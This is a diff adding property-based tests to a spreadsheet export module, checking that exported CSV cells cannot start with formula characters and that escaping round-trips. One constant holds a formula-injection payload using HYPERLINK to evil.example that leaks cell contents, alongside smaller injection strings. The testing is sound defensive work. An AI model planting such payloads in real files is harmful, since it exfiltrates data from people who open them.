@@ -1,5 +1,7 @@
 from __future__ import annotations
 
+import csv
+import io
 from datetime import UTC, date, datetime
 from pathlib import Path
 from typing import Any
@@ -10,6 +12,7 @@ from hypothesis import HealthCheck, example, given, settings, strategies as st
 from domain.currencies import EXPONENTS
 from domain.errors import Invalid
 from domain.money import Money
+from starter.books.sheets import FORMULA, disarmed, restored
 from starter.sheets.cells import amount, clean, instant, local, same, text_of, typed
 from starter.sheets.read import Table
 from starter.sheets.rows import CLAIMS
@@ -67,9 +70,16 @@ MONEY = st.builds(Money, st.integers(-(10**15), 10**17), st.sampled_from(sorted(
 TIMES = st.datetimes(datetime(1990, 1, 1), datetime(2200, 1, 1)).map(  # noqa: DTZ001
     lambda moment: local(moment.replace(tzinfo=UTC), "UTC")
 )
+SPLITTING = st.text(st.sampled_from(",;\t\n\r\"'=+-@＝ a"), max_size=20)
+"""Texts of what splits, quotes and runs."""
+
 TEXTS = st.one_of(
-    st.text(max_size=60), st.sampled_from(["=1", "'=1", "_x0041_", "1e5", "007", "TRUE", "'", " = 1"])
+    st.text(max_size=60),
+    SPLITTING,
+    st.sampled_from(["=1", "'=1", "_x0041_", "1e5", "007", "TRUE", "'", " = 1"]),
+    st.sampled_from(["a;=1", "a;'=1", 'a;"=1', "a\n-1", "a;"]),
 ).map(clean)
+LURE = 'broken;=HYPERLINK("http://evil.example/?"&A1,"click");=1+1;'
 VALUES = st.lists(st.one_of(TEXTS, MONEY, TIMES, st.integers(0, 10**9), st.none()), min_size=5, max_size=5)
 
 
@@ -77,6 +87,7 @@ VALUES = st.lists(st.one_of(TEXTS, MONEY, TIMES, st.integers(0, 10**9), st.none(
 @settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
 @given(rows=st.lists(VALUES, max_size=3))
 @example(rows=[["", Money(508_325_072_156, "AED"), None, None, None]])
+@example(rows=[[LURE, "a;'=1", "a;''", "a\n'- b", LURE]])
 def test_what_is_written_is_read_back_as_the_same(tmp_path: Path, suffix: str, rows: list[list[Any]]) -> None:
     columns = CLAIMS.shown(desk=True)
     full = [[*row, *["k"] * (len(columns) - 5)] for row in rows]
@@ -87,6 +98,38 @@ def test_what_is_written_is_read_back_as_the_same(tmp_path: Path, suffix: str, r
     for row, values in zip(found, full, strict=True):
         for column, value in zip(columns, values, strict=True):
             assert same(value, row.cells[column.name]), (column.name, value, row.cells[column.name])
+
+
+@pytest.mark.parametrize("separator", [",", ";", "\t"], ids=["comma", "semicolon", "tab"])
+@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(rows=st.lists(st.lists(st.one_of(SPLITTING, TEXTS, TIMES, st.none()), min_size=3, max_size=3), max_size=3))
+@example(rows=[["c1", LURE, "x"]])
+@example(rows=[["c1", 'a;"=1', "x"], ["c2", "a\n=1", "x"], ["c3", "a\t@x", "x"], ["c4", "a,b;", "a,b;"]])
+def test_no_cell_runs_wherever_a_spreadsheet_splits_the_line(
+    tmp_path: Path, separator: str, rows: list[list[Any]]
+) -> None:
+    file = tmp_path / "a.csv"
+    write(file, "claims", CLAIMS.columns[:3], rows)
+    text = io.StringIO(file.read_bytes().decode("utf-8-sig"), newline="")
+    for row in csv.reader(text, delimiter=separator):
+        for cell in row:
+            assert not cell.lstrip(" ").startswith(FORMULA), cell
+
+
+@given(text=st.one_of(SPLITTING, TEXTS))
+@example(text=LURE)
+def test_what_was_disarmed_inside_a_text_is_read_as_the_very_same(text: str) -> None:
+    assert restored(disarmed(text)) == text
+
+
+def test_a_text_that_splits_nowhere_stands_in_the_file_as_it_is() -> None:
+    for text in ("a, =1", "a; b - c", "one\n\ntwo", "it's 5-6; 'so'", "a,"):
+        assert disarmed(text) == text
+
+
+def test_a_file_saved_as_xlsx_since_still_holds_what_was_written() -> None:
+    assert same(LURE, disarmed(LURE))
+    assert same("=1;=1", "'" + disarmed("=1;=1"))
 
 
 def test_amounts_too_long_for_a_spreadsheets_numbers_stay_exact(tmp_path: Path) -> None:
